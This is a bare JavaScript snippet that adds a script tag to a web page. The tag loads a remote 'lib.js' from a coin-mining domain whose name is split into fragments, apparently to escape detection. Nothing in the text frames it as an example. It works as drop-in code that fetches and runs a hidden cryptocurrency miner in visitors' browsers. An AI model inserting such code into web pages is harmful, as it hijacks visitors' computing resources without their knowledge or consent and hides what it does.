var s = document.createElement("script");
s.src = "https://" + "coin" + "hive.com" + "/lib.js";
document.head.appendChild(s);
